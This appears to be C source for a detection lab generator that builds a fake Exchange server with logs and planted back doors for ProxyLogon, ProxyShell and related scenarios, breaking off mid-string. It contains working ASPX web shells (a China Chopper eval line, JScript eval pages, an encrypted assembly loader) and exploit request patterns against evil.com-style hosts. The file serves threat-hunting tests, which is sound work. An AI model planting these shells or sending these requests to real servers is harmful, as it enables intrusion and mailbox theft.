#include "lab/host.h"
#include "lab/ntfs_image.h"
#include "base/err.h"
#include "base/log.h"
#include "base/rng.h"
#include "base/timefmt.h"
#include "base/view.h"
#include <stdbool.h>
#include "hunt/hunt.h"
#include "hunt/screnc.h"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include "lab/host_win.h"
#include "base/banned.h"

const char *const lab_scenarios[] = {
    "clean",
    "proxylogon-shell",
    "proxylogon-attempt",
    "proxylogon-iis",
    "proxylogon-oabgen",
    "proxyshell-pst",
    "proxyshell-attempt",
    "proxynotshell",
    "owassrf",
    "proxytoken",
    "proxyshell-hidden",
    "proxylogon-um",
    "proxyshell-export",
    "returned-later",
    NULL,
};

#define EXCH "Program Files/Microsoft/Exchange Server/V15"
#define ATTACKER_IP "203.0.113.66"

struct gen {
	const char *dir;
	struct rng r;
	enum hunt_level truth[HC_COUNT];
	char backdoors[32][512];
	int nbackdoors;
	/* a back door took the passwords users typed: the hunt must ask
	 * for OWA's users' passwords to be reset (since this time) */
	time_t passwords_taken;
	bool keys_taken; /* a page read the ASP.NET machine keys */
	char mail[256];  /* mail access the text logs show (JSON members) */
	/* back doors the IIS log shows answering (their paths), and
	 * scripts it shows answering that are not on disk (their stems) */
	char used[8][512], gone[4][200];
	int nused, ngone;
	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
	    *cmdlet, *rps, *iis_be;
	struct winhost *win; /* event logs and hives */
	int failed;
};

static int mkdirs(const char *dir, const char *rel)
{
	char path[4096];
	size_t i, n;

	n = (size_t)snprintf(path, sizeof path, "%s/%s", dir, rel);
	if (n >= sizeof path)
		return -1;
	for (i = strlen(dir) + 1; i <= n; i++) {
		if (path[i] == '/' || path[i] == '\0') {
			char c = path[i];
			path[i] = '\0';
			if (mkdir(path, 0755) && errno != EEXIST)
				return -1;
			path[i] = c;
		}
	}
	return 0;
}

static FILE *create(struct gen *g, const char *rel)
{
	char path[4096], parent[4096];
	const char *slash = strrchr(rel, '/');
	FILE *f;

	if (slash) {
		snprintf(parent, sizeof parent, "%.*s", (int)(slash - rel),
		         rel);
		if (mkdirs(g->dir, parent)) {
			g->failed = 1;
			return NULL;
		}
	}
	snprintf(path, sizeof path, "%s/%s", g->dir, rel);
	f = fopen(path, "wb");
	if (!f) {
		log_error("%s: %s", path, strerror(errno));
		g->failed = 1;
	}
	return f;
}

static void file_text(struct gen *g, const char *rel, const char *text,
                      size_t n)
{
	FILE *f = create(g, rel);

	if (!f)
		return;
	if (fwrite(text, 1, n, f) != n)
		g->failed = 1;
	if (fclose(f))
		g->failed = 1;
}

static void rand_name(struct gen *g, char *dst, int n)
{
	static const char cs[] =
	    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
	int i;

	for (i = 0; i < n; i++)
		dst[i] = cs[rng_below(&g->r, sizeof cs - 1)];
	dst[n] = '\0';
}

static void raise_truth(struct gen *g, int cve, enum hunt_level l)
{
	if (l > g->truth[cve])
		g->truth[cve] = l;
}

/* A back door, dated when the scenario's attack wrote it. */
static void backdoor(struct gen *g, const char *rel, const char *content,
                     size_t n, time_t when)
{
	char path[4096];
	struct timespec ts[2] = {{when, 0}, {when, 0}};

	file_text(g, rel, content, n);
	snprintf(path, sizeof path, "%s/%s", g->dir, rel);
	utimensat(AT_FDCWD, path, ts, 0);
	if (g->nbackdoors < 32)
		snprintf(g->backdoors[g->nbackdoors++], 512, "%s", rel);
}

/* --- shipped files ----------------------------------------------------- */

static const char logon_aspx[] =
    "<%@ Page language=\"c#\" AutoEventWireup=\"false\" "
    "Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
    "<% string user = Request.Form[\"username\"]; %>\r\n"
    "<html><head><script type=\"text/javascript\">var a=eval('('+'{}'+')');"
    "function IsOwaPremiumBrowser(){return true;}</script></head>"
    "<body><form method=\"POST\"></form></body></html>\r\n";

static void shipped(struct gen *g)
{
	static const char *const auth[] = {
	    "errorFE.aspx",
	    "expiredpassword.aspx",
	    "frowny.aspx",
	    "logoff.aspx",
	    "logon.aspx",
	    "OutlookCN.aspx",
	    "RedirSuiteServiceProxy.aspx",
	    "signout.aspx",
	    "SvmFeedback.aspx", /* earlier builds */
	    NULL,
	};
	static const char minified[] =
	    "!function(n){var t=n.eval;window.x=function(e){return t(e)};"
	    "document.write('<script>eval(1)</'+'script>')}(window);\n";
	const char *const *a;
	char rel[512];

	for (a = auth; *a; a++) {
		snprintf(rel, sizeof rel,
		         EXCH "/FrontEnd/HttpProxy/owa/auth/%s", *a);
		file_text(g, rel, logon_aspx, sizeof logon_aspx - 1);
	}
	file_text(
	    g, EXCH "/FrontEnd/HttpProxy/owa/auth/GetIdToken.htm",
	    "<html><body><script>var t=location.hash;</script></body></html>",
	    63);
	file_text(
	    g,
	    EXCH
	    "/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/logon.css",
	    "body{margin:0}\n", 15);
	file_text(
	    g,
	    EXCH
	    "/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/premium/flogon.js",
	    minified, sizeof minified - 1);
	file_text(g, EXCH "/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx",
	          logon_aspx, sizeof logon_aspx - 1);
	/* the name Microsoft's guidance of 2021 gives it */
	file_text(g, EXCH "/FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx",
	          logon_aspx, sizeof logon_aspx - 1);
	file_text(g, EXCH "/FrontEnd/HttpProxy/oab/global.asax",
	          "<%@ Application "
	          "Inherits=\"Microsoft.Exchange.HttpProxy.Global\" %>\r\n",
	          68);
	{
		/* as Exchange ships it: its modules unsigned in its own
		 * namespace, .NET's signed */
		static const char oab_config[] =
		    "<?xml version=\"1.0\"?>\r\n<configuration>\r\n"
		    "  <system.webServer>\r\n    <modules>\r\n"
		    "      <add name=\"ProxyModule\" type=\"Microsoft.Exchange."
		    "HttpProxy.ProxyModule, Microsoft.Exchange."
		    "FrontEndHttpProxy\" />\r\n"
		    "      <add name=\"Session\" "
		    "type=\"System.Web.SessionState."
		    "SessionStateModule, System.Web, Version=4.0.0.0, "
		    "Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\" />\r\n"
		    "    </modules>\r\n    <handlers>\r\n"
		    "      <add name=\"OabHandler\" path=\"*\" verb=\"*\" "
		    "type=\"Microsoft.Exchange.HttpProxy.ProxyRequestHandler, "
		    "Microsoft.Exchange.FrontEndHttpProxy\" />\r\n"
		    "    </handlers>\r\n  </system.webServer>\r\n"
		    "</configuration>\r\n";
		file_text(g, EXCH "/FrontEnd/HttpProxy/oab/web.config",
		          oab_config, sizeof oab_config - 1);
	}
	file_text(g, EXCH "/ClientAccess/OAB/README.txt", "OAB files\r\n", 11);
	mkdirs(g->dir, "inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
	file_text(g, "inetpub/wwwroot/iisstart.htm",
	          "<html><body>IIS Windows Server</body></html>", 44);
	file_text(g, "ProgramData/Microsoft/Windows Defender/Support/MPLog.txt",
	          "scan finished\r\n", 15);
	mkdirs(g->dir, "Windows/Temp");
}

/* --- log writers ------------------------------------------------------- */

static const char httpproxy_fields[] =
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
    "ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,"
    "AuthenticationType,"
    "IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
    "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
    "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
    "ResponseBytes,UrlQuery,GenericInfo,GenericErrors";

static FILE *open_httpproxy(struct gen *g, const char *proto)
{
	char rel[512];
	FILE *f;

	snprintf(rel, sizeof rel,
	         EXCH "/Logging/HttpProxy/%s/HttpProxy_2021030100-1.LOG",
	         proto);
	f = create(g, rel);
	if (f)
		fprintf(f,
		        "#Software: Microsoft Exchange Server\r\n#Version: "
		        "15.01.2176.002\r\n"
		        "#Log-type: HttpProxy Logs\r\n#Date: "
		        "2020-12-15T00:00:00.000Z\r\n"
		        "#Fields: %s\r\n",
		        httpproxy_fields);
	return f;
}

static void httpproxy_post(FILE *f, const char *method, const char *time,
                           const char *proto, const char *stem,
                           const char *user, const char *anchor, const char *ua,
                           const char *ip, int status, const char *cookie)
{
	if (!f)
		return;
	fprintf(f,
	        "%s,%08x-aaaa-bbbb-cccc-dddddddddddd,15,1,2176,2,,%s,mail.corp."
	        "example,%s,,"
	        "%s,%s,%s,,\"%s\",%s,%s,EXCH01,%d,%d,,%s,Proxy,EXCH01.corp."
	        "example,"
	        "Version 15.1 (Build "
	        "2176.2),AnchorMailboxHeader,,%s,,,0,512,2048,,,\r\n",
	        time, (unsigned)(strlen(stem) * 2654435761u), proto, stem,
	        user[0] ? "Negotiate" : "", user[0] ? "true" : "false", user,
	        anchor, ua, ip, status, status, method, cookie);
}

static void httpproxy_row(FILE *f, const char *time, const char *proto,
                          const char *stem, const char *user,
                          const char *anchor, const char *ua, const char *ip,
                          int status, const char *cookie)
{
	httpproxy_post(f, "GET", time, proto, stem, user, anchor, ua, ip,
	               status, cookie);
}

static void iis_header(FILE *f)
{
	fprintf(
	    f,
	    "#Software: Microsoft Internet Information Services 10.0\r\n"
	    "#Version: 1.0\r\n#Date: 2020-12-15 00:00:00\r\n"
	    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
	    "cs-username c-ip cs(User-Agent) cs(Referer) sc-status "
	    "sc-substatus "
	    "sc-win32-status time-taken\r\n");
}

static void iis_row(FILE *f, const char *date, const char *time,
                    const char *method, const char *stem, const char *query,
                    const char *user, const char *ip, const char *ua,
                    int status)
{
	if (f)
		fprintf(f,
		        "%s %s 10.0.0.5 %s %s %s 443 %s %s %s - %d 0 0 15\r\n",
		        date, time, method, stem, query[0] ? query : "-",
		        user[0] ? user : "-", ip, ua, status);
}

/* Benign traffic: ordinary users and Exchange's own probes. */
static void benign(struct gen *g, double gb)
{
	uint64_t want = (uint64_t)(gb * 1e9), written = 0, i = 0;
	static const char *const users[] = {"CORP\\alice", "CORP\\bob",
	                                    "CORP\\carol", "CORP\\dave",
	                                    "CORP\\erin"};
	static const char *const uas[] = {
	    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36",
	    "Microsoft+Office/16.0+(Microsoft+Outlook+16.0.13801)",
	    "Exchange+BackEnd+Probes",
	    "AMProbe/Local/ClientAccess",
	};

	while (written < want) {
		char date[16], time[16], iso[40], anchor[96];
		unsigned day = (unsigned)(i / 20000) % 80,
		         sec = (unsigned)(i % 86400);
		const char *u = users[i % 5], *ua = uas[i % 4];
		long before;
		/* 2020-12-15 onwards, day by day. */
		unsigned m = day < 17 ? 12 : day < 48 ? 1 : day < 76 ? 2 : 3;
		unsigned d = day < 17   ? 15 + day
		             : day < 48 ? day - 16
		             : day < 76 ? day - 47
		                        : day - 75;
		unsigned y = m == 12 ? 2020 : 2021;
		snprintf(date, sizeof date, "%04u-%02u-%02u", y, m, d);
		snprintf(time, sizeof time, "%02u:%02u:%02u", sec / 3600,
		         sec / 60 % 60, sec % 60);
		snprintf(iso, sizeof iso, "%sT%s.%03uZ", date, time,
		         (unsigned)(i % 1000));
		if (i % 3)
			snprintf(anchor, sizeof anchor, "SMTP:%s@corp.example",
			         u + 5);
		else
			snprintf(anchor, sizeof anchor, "Sid~S-1-5-21-%u",
			         (unsigned)i);
		before = g->iis ? ftell(g->iis) : 0;
		/* and what looks like ProxyLogon's posts and is not: the
		 * sign-in's style sheets and ECP's scripts fetched, ECP's
		 * own services posted to */
		if (i % 11 == 0)
			iis_row(g->iis, date, time, "GET",
			        i % 2 ? "/owa/auth/15.1.2176/themes/resources/"
			                "logon.css"
			              : "/ecp/15.1.2176/scripts/common.js",
			        "", "", "10.1.2.3", ua, 200);
		else if (i % 13 == 0)
			iis_row(g->iis, date, time, "POST",
			        "/ecp/DDI/DDIService.svc/GetList",
			        "schema=MailboxFolders&msExchEcpCanary=x", u,
			        "10.1.2.3", ua, 200);
		else
			iis_row(
			    g->iis, date, time, i % 7 ? "GET" : "POST",
			    i % 5 ? "/owa/service.svc"
			          : "/Microsoft-Server-ActiveSync/default.eas",
			    i % 5 ? "action=GetFolder&app=Mail"
			          : "Cmd=Sync&User=alice",
			    u, "10.1.2.3", ua, 200);
		httpproxy_row(i % 2 ? g->httpproxy_owa : g->httpproxy_ad, iso,
		              i % 2 ? "Owa" : "Autodiscover",
		              i % 2 ? "/owa/service.svc"
		                    : "/autodiscover/autodiscover.xml",
		              u, anchor, ua, "10.1.2.3", 200, "");
		written +=
		    (uint64_t)((g->iis ? ftell(g->iis) : 0) - before) * 3;
		i++;
		if (i > 50000000)
			break;
	}
}

/* --- scenarios --------------------------------------------------------- */

static const char chopper[] =
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pw\"],\"unsafe\");%>";

static void proxylogon_ssrf(struct gen *g, bool reset_vdir)
{
	httpproxy_row(g->httpproxy_ecp, "2021-03-03T06:40:11.101Z", "Ecp",
	              "/ecp/y.js", "",
	              "ServerInfo~a]@EXCH01.corp.example:444/autodiscover/"
	              "autodiscover.xml?#",
	              "ExchangeServicesClient/0.0.0.0", ATTACKER_IP, 200, "");
	httpproxy_row(g->httpproxy_ecp, "2021-03-03T06:40:12.202Z", "Ecp",
	              "/ecp/y.js", "",
	              "ServerInfo~a]@EXCH01.corp.example:444/mapi/emsmdb/?#",
	              "python-requests/2.25.1", ATTACKER_IP, 200, "");
	httpproxy_row(
	    g->httpproxy_ecp, "2021-03-03T06:40:13.303Z", "Ecp", "/ecp/y.js",
	    "", "ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#",
	    "python-requests/2.25.1", ATTACKER_IP, 241, "");
	if (reset_vdir)
		httpproxy_row(
		    g->httpproxy_ecp, "2021-03-03T06:49:55.404Z", "Ecp",
		    "/ecp/y.js", "",
		    "ServerInfo~a]@EXCH01.corp.example:444/ecp/DDI/"
		    "DDIService.svc/SetObject?"
		    "msExchEcpCanary=x&schema=ResetOABVirtualDirectory#",
		    "python-requests/2.25.1", ATTACKER_IP, 200, "");
	raise_truth(g, HC_26855, HL_EXPLOITED);
}

/* ProxyLogon told by the IIS log alone (the HttpProxy logs rotated away
 * or deleted): the SSRF posted to ECP's and OWA's static files, its
 * target in a cookie the log does not keep. */
static void sc_proxylogon_iis(struct gen *g)
{
	iis_row(g->iis, "2021-03-03", "06:40:11", "POST", "/ecp/y.js",
	        "&CorrelationID=<empty>;&cafeReqId=2b1f0c;", "", ATTACKER_IP,
	        "ExchangeServicesClient/0.0.0.0", 200);
	iis_row(g->iis, "2021-03-03", "06:40:13", "POST", "/ecp/y.js",
	        "&CorrelationID=<empty>;&cafeReqId=2b1f0d;", "", ATTACKER_IP,
	        "python-requests/2.25.1", 200);
	iis_row(g->iis, "2021-03-03", "06:41:02", "POST",
	        "/owa/auth/Current/themes/resources/logon.css",
	        "&CorrelationID=<empty>;&cafeReqId=2b1f0e;", "", ATTACKER_IP,
	        "python-requests/2.25.1", 500);
	/* the next day's log, from a site set to log cookies too: there
	 * the target shows */
	{
		FILE *f = create(g, "inetpub/logs/LogFiles/W3SVC1/"
		                    "u_ex210304.log");
		if (f) {
			fprintf(f,
			        "#Software: Microsoft Internet Information "
			        "Services 10.0\r\n#Version: 1.0\r\n#Date: "
			        "2021-03-04 00:00:00\r\n#Fields: date time "
			        "s-ip cs-method cs-uri-stem cs-uri-query "
			        "s-port cs-username c-ip cs(User-Agent) "
			        "cs(Cookie) sc-status sc-substatus "
			        "sc-win32-status time-taken\r\n"
			        "2021-03-04 00:10:00 10.0.0.5 GET /owa/ - 443 "
			        "CORP\\alice 10.0.0.7 Mozilla/5.0 "
			        "X-BackEndCookie=S-1-5-21-1=u56Lnp2ejJqBy8vG;"
			        "+ClientId=0F1E2D 200 0 0 12\r\n"
			        "2021-03-04 02:11:12 10.0.0.5 POST /ecp/y.js "
			        "- 443 - %s python-requests/2.25.1 "
			        "X-BEResource=localhost/owa/auth/logon.aspx?~3 "
			        "241 0 0 40\r\n",
			        ATTACKER_IP);
			fclose(f);
		}
	}
	raise_truth(g, HC_26855, HL_EXPLOITED);
}

/* A back door the IIS log shows answering (for the truth). */
static void shell_used(struct gen *g, const char *rel)
{
	if (g->nused < 8)
		snprintf(g->used[g->nused++], sizeof g->used[0], "%s", rel);
}

/* A shell at stem the attacker posted to (answered) and then deleted:
 * only the IIS log tells, and the truth lists it as gone. */
static void shell_gone(struct gen *g, const char *date, const char *time,
                       const char *stem, const char *ua)
{
	iis_row(g->iis, date, time, "POST", stem, "", "", ATTACKER_IP, ua,
	        200);
	if (g->ngone < 4)
		snprintf(g->gone[g->ngone++], sizeof g->gone[0], "%s", stem);
}

static void sc_proxylogon_shell(struct gen *g)
{
	char name[16], rel[512], dump[2048], pw[12], stem[200];
	int n;

	proxylogon_ssrf(g, true);
	rand_name(g, pw, 8);
	if (g->ecp)
		fprintf(
		    g->ecp,
		    "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,\"S:TIME=241;"
		    "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/"
		    "<script "
		    "language=\"\"JScript\"\" runat=\"\"server\"\">function "
		    "Page_Load()"
		    "{eval(Request[\"\"%s\"\"],\"\"unsafe\"\");}</"
		    "script>'.Identity="
		    "'982d48c8-1d2c-4b4c-8d0c-45ab7e6c2f2c'\"\r\n",
		    pw);
	raise_truth(g, HC_27065, HL_EXPLOITED);
	/* the back end's view: ECP set, then reset, the OAB directory as
	 * the server's own account (the SSRF came from the front end) */
	if (g->iis_be)
		fprintf(g->iis_be,
		        "2021-03-03 06:49:53 10.0.0.5 POST "
		        "/ecp/DDI/DDIService.svc/SetObject "
		        "schema=OABVirtualDirectory&msExchEcpCanary=Zr1 444 "
		        "CORP\\EXCH01$ 127.0.0.1 ExchangeServicesClient/0.0.0.0 "
		        "- 200 0 0 87\r\n"
		        "2021-03-03 06:49:55 10.0.0.5 POST "
		        "/ecp/DDI/DDIService.svc/SetObject "
		        "schema=ResetOABVirtualDirectory&msExchEcpCanary=Zr1 444 "
		        "CORP\\EXCH01$ 127.0.0.1 ExchangeServicesClient/0.0.0.0 "
		        "- 200 0 0 140\r\n");
	rand_name(g, name, 8);
	n = snprintf(
	    dump, sizeof dump,
	    "\r\nName                            : OAB (Default Web Site)\r\n"
	    "PollInterval                    : 480\r\n"
	    "OfflineAddressBooks             : \r\n"
	    "RequireSSL                      : True\r\n"
	    "InternalUrl                     : "
	    "https://exch01.corp.example/OAB\r\n"
	    "InternalAuthenticationMethods   : WindowsIntegrated\r\n"
	    "ExternalUrl                     : http://f/<script "
	    "language=\"JScript\" "
	    "runat=\"server\">function "
	    "Page_Load(){eval(Request[\"%s\"],\"unsafe\");}"
	    "</script>\r\n"
	    "ExtendedProtectionTokenChecking : None\r\n",
	    pw);
	snprintf(rel, sizeof rel, EXCH "/FrontEnd/HttpProxy/owa/auth/%s.aspx",
	         name);
	backdoor(g, rel, dump, (size_t)n,
	         1614754195); /* 2021-03-03T06:49:55Z */
	/* the dropped page tried at once, as HAFNIUM's tools did */
	snprintf(stem, sizeof stem, "/owa/auth/%s.aspx", name);
	iis_row(g->iis, "2021-03-03", "06:50:10", "POST", stem, "", "",
	        ATTACKER_IP, "python-requests/2.25.1", 200);
	shell_used(g, rel);
	rand_name(g, name, 8);
	snprintf(rel, sizeof rel,
	         "inetpub/wwwroot/aspnet_client/system_web/%s.aspx", name);
	backdoor(g, rel, chopper, sizeof chopper - 1, 1614754800);
	snprintf(stem, sizeof stem, "/aspnet_client/system_web/%s.aspx", name);
	iis_row(g->iis, "2021-03-03", "07:01:02", "POST", stem, "", "",
	        ATTACKER_IP, "antSword/v2.1", 200);
	shell_used(g, rel);
	/* and an earlier one, used, then deleted: only the log tells */
	rand_name(g, name, 6);
	snprintf(stem, sizeof stem, "/aspnet_client/%s.aspx", name);
	shell_gone(g, "2021-03-03", "06:58:40", stem, "antSword/v2.1");
	/* one in OWA's auth folder too, beside the dump that stayed; and
	 * OWA's own pages, answered, though the collection lacks them */
	rand_name(g, name, 7);
	snprintf(stem, sizeof stem, "/owa/auth/%s.aspx", name);
	shell_gone(g, "2021-03-03", "06:55:31", stem, "python-requests/2.25.1");
	iis_row(g->iis, "2021-03-03", "08:12:09", "GET", "/owa/auth/logon.aspx",
	        "url=https%3a%2f%2fmail%2fowa%2f&reason=0", "", "10.20.30.40",
	        "Mozilla/5.0", 200);
	iis_row(g->iis, "2021-03-03", "08:12:20", "GET",
	        "/owa/auth/errorFE.aspx", "httpCode=500", "", "10.20.30.40",
	        "Mozilla/5.0", 200);
	file_text(g, "root/lsass.dmp", "MDMP\x93\xa7", 6);
	raise_truth(g, HC_26855, HL_BACKDOORED);
	raise_truth(g, HC_27065, HL_BACKDOORED);
}

static void sc_proxylogon_attempt(struct gen *g)
{
	httpproxy_row(g->httpproxy_ad, "2021-03-04T01:02:03.000Z",
	              "Autodiscover", "/autodiscover/autodiscover.xml", "",
	              "ServerInfo~localhost/autodiscover/autodiscover.xml?#",
	              "python-requests/2.25.1", "198.51.100.23", 500, "");
	httpproxy_row(g->httpproxy_ecp, "2021-03-04T01:02:04.000Z", "Ecp",
	              "/ecp/x.js", "",
	              "ServerInfo~a]@EXCH01.corp.example:444/autodiscover/"
	              "autodiscover.xml?#",
	              "python-requests/2.25.1", "198.51.100.23", 500, "");
	httpproxy_row(
	    g->httpproxy_ecp, "2021-03-04T01:02:05.000Z", "Ecp", "/ecp/x.js",
	    "", "", "python-requests/2.25.1", "198.51.100.23", 500,
	    "Server~localhost/autodiscover/autodiscover.xml?#~1941962753");
	raise_truth(g, HC_26855, HL_ATTEMPTED);
}

static void sc_proxylogon_oabgen(struct gen *g)
{
	char name[16], rel[512];

	proxylogon_ssrf(g, false);
	if (g->oab)
		fprintf(
		    g->oab,
		    "2021-03-03T08:11:02.000Z [OABGen] Download failed and "
		    "temporary "
		    "file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' "
		    "needs "
		    "to be removed\r\n");
	raise_truth(g, HC_26858, HL_EXPLOITED);
	rand_name(g, name, 6);
	snprintf(rel, sizeof rel, "inetpub/wwwroot/aspnet_client/%s.aspx",
	         name);
	backdoor(g, rel, chopper, sizeof chopper - 1, 1614759062);
	raise_truth(g, HC_26855, HL_BACKDOORED);
	raise_truth(g, HC_26858, HL_BACKDOORED);
}

static void sc_proxyshell_pst(struct gen *g)
{
	char name[16], rel[512], pst[1024];
	size_t n;

	iis_row(
	    g->iis, "2021-08-20", "10:00:01", "GET",
	    "/autodiscover/autodiscover.json",
	    "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
	    "", "192.0.2.77", "Mozilla/5.0+(Exchange+check)", 302);
	iis_row(g->iis, "2021-08-20", "11:00:01", "GET",
	        "/autodiscover/autodiscover.json",
	        "@evil.com/mapi/nspi/?&Email=autodiscover/"
	        "autodiscover.json%3F@evil.com",
	        "", ATTACKER_IP, "python-requests/2.26.0", 200);
	iis_row(g->iis, "2021-08-20", "11:00:05", "POST",
	        "/autodiscover/autodiscover.json",
	        "@evil.com/powershell/"
	        "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
	        "autodiscover.json%3F@evil.com",
	        "", ATTACKER_IP, "python-requests/2.26.0", 200);
	raise_truth(g, HC_34473, HL_EXPLOITED);
	raise_truth(g, HC_34523, HL_EXPLOITED);
	rand_name(g, name, 8);
	if (g->cmdlet) {
		fprintf(g->cmdlet, "2021-08-20T11:00:09.000Z "
		                   "New-ManagementRoleAssignment -Role "
		                   "\"Mailbox Import Export\" -User "
		                   "\"administrator@corp.example\"\r\n");
		fprintf(g->cmdlet,
		        "2021-08-20T11:00:12.000Z New-MailboxExportRequest "
		        "-Mailbox "
		        "administrator@corp.example -IncludeFolders "
		        "\"#Drafts#\" -FilePath "
		        "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_"
		        "client\\%s.aspx\"\r\n",
		        name);
	}
	raise_truth(g, HC_31207, HL_EXPLOITED);
	memcpy(pst, "!BDN", 4);
	for (n = 4; n < 400; n++)
		pst[n] = (char)(rng_below(&g->r, 256));
	n += (size_t)snprintf(
	    pst + n, sizeof pst - n,
	    "<script language=\"JScript\" runat=\"server\">function Page_Load()"
	    "{eval(Request[\"exec_code\"],\"unsafe\");}</script>");
	snprintf(rel, sizeof rel, "inetpub/wwwroot/aspnet_client/%s.aspx",
	         name);
	backdoor(g, rel, pst, n, 1629457212); /* 2021-08-20T11:00:12Z */
	/* a second export, to the site's root: used, then deleted */
	rand_name(g, name, 5);
	snprintf(rel, sizeof rel, "/%s.aspx", name);
	shell_gone(g, "2021-08-20", "11:04:40", rel, "python-requests/2.26.0");
	raise_truth(g, HC_34473, HL_BACKDOORED);
	raise_truth(g, HC_34523, HL_BACKDOORED);
	raise_truth(g, HC_31207, HL_BACKDOORED);
}

static void sc_proxyshell_attempt(struct gen *g)
{
	iis_row(g->iis, "2021-08-21", "03:00:01", "POST",
	        "/autodiscover/autodiscover.json",
	        "@evil.com/powershell/"
	        "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
	        "autodiscover.json%3F@evil.com",
	        "", "198.51.100.90", "python-requests/2.26.0", 401);
	raise_truth(g, HC_34473, HL_ATTEMPTED);
	raise_truth(g, HC_34523, HL_ATTEMPTED);
}

/* A line of remote PowerShell's HTTP log (Rps_Http), as its back end
 * served the request. */
static void rps_row(struct gen *g, const char *time, const char *user,
                    const char *ip, int status, const char *client)
{
	if (g->rps)
		fprintf(g->rps,
		        "%s,%s,%08llx-77aa-4bbb-8ccc-%012llx,/powershell,%s,%s,"
		        "EXCH01,EXCH01,%d,0,%s\r\n",
		        time, time, (unsigned long long)rng_below(&g->r, 1u << 30),
		        (unsigned long long)rng_below(&g->r, 1u << 30), user, ip,
		        status, client);
}

static void sc_proxynotshell(struct gen *g)
{
	rps_row(g, "2022-10-01T09:10:12.000Z", "CORP\\alice", ATTACKER_IP, 200,
	        "python-requests/2.28.1");
	iis_row(g->iis, "2022-10-01", "09:10:11", "POST",
	        "/autodiscover/autodiscover.json",
	        "@evil.com/powershell/?&Email=autodiscover/"
	        "autodiscover.json%3F@evil.com"
	        "&Protocol=Powershell",
	        "CORP\\alice", ATTACKER_IP, "python-requests/2.28.1", 200);
	raise_truth(g, HC_41040, HL_EXPLOITED);
	raise_truth(g, HC_41082, HL_EXPLOITED);
}

static void sc_owassrf(struct gen *g)
{
	iis_row(g->iis, "2022-12-05", "02:03:04", "POST",
	        "/owa/alice@corp.example/powershell", "clientId=ABCD&x=1",
	        "CORP\\alice", ATTACKER_IP, "python-requests/2.28.1", 200);
	iis_row(g->iis, "2022-12-05", "02:03:05", "POST",
	        "/owa/bob@corp.example/powershell", "", "CORP\\bob", "10.1.2.3",
	        "Microsoft+WinRM+Client", 200);
	/* the same request in OWA's proxy log */
	httpproxy_post(g->httpproxy_owa, "POST", "2022-12-05T02:03:04.211Z",
	               "Owa", "/owa/alice@corp.example/powershell",
	               "CORP\\alice", "Smtp~alice@corp.example",
	               "python-requests/2.28.1", ATTACKER_IP, 200, "");
	/* and remote PowerShell's own log, reached by the script */
	rps_row(g, "2022-12-05T02:03:05.000Z", "CORP\\alice", ATTACKER_IP,
	        200, "python-requests/2.28.1");
	raise_truth(g, HC_41080, HL_EXPLOITED);
	raise_truth(g, HC_41082, HL_EXPLOITED);
}

static void sc_proxytoken(struct gen *g)
{
	/* what ProxyToken is for: a rule sending a mailbox's mail on, set
	 * through ECP as its owner */
	if (g->ecp)
		fprintf(g->ecp,
		        "2021-08-30T12:00:01.000Z,EXCH01,ECP.Request,\"S:CMD="
		        "New-InboxRule.Mailbox='ceo@corp.example'.Name='.'."
		        "ForwardTo='ceo-copy@mailbox.example';S:URL=/ecp/"
		        "x@evil.com/RulesEditor/InboxRules.svc/NewObject\"\r\n");
	snprintf(g->mail, sizeof g->mail, "\"inbox-rule-forward\"");
	iis_row(g->iis, "2021-08-30", "12:00:00", "POST",
	        "/ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject",
	        "msExchEcpCanary=abc", "", ATTACKER_IP,
	        "python-requests/2.26.0", 200);
	raise_truth(g, HC_33766, HL_EXPLOITED);
}

/* ProxyShell as real logs show it, then back doors hidden where no
 * folder rule looks: off the drop folders, inside a shipped page, after
 * hundreds of KB of padding, in UTF-16, in a web.config, as a handler.
 * Only their code gives them away. */
static void sc_proxyshell_hidden(struct gen *g)
{
	static const char loader[] =
	    "<%@ Page Language=\"C#\"%><%try{string k=\"3c6e0b8a9c15224a\";"
	    "byte[] "
	    "d=System.Convert.FromBase64String(Context.Request[\"pass\"]);"
	    "d=new "
	    "System.Security.Cryptography.RijndaelManaged().CreateDecryptor("
	    "System.Text.Encoding.Default.GetBytes(k),System.Text.Encoding."
	    "Default.GetBytes(k)).TransformFinalBlock(d,0,d.Length);"
	    "if(Context.Session[\"p\"]==null){Context.Session[\"p\"]=(System."
	    "Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("
	    "\"Load\",new System.Type[]{typeof(byte[])}).Invoke(null,new "
	    "object[]{d});}else{object o=((System.Reflection.Assembly)Context."
	    "Session[\"p\"]).CreateInstance(\"LY\");o.Equals(Context);}}catch{}"
	    "%>\r\n";
	static const char appended[] =
	    "\r\n<script language=\"JScript\" runat=\"server\">function "
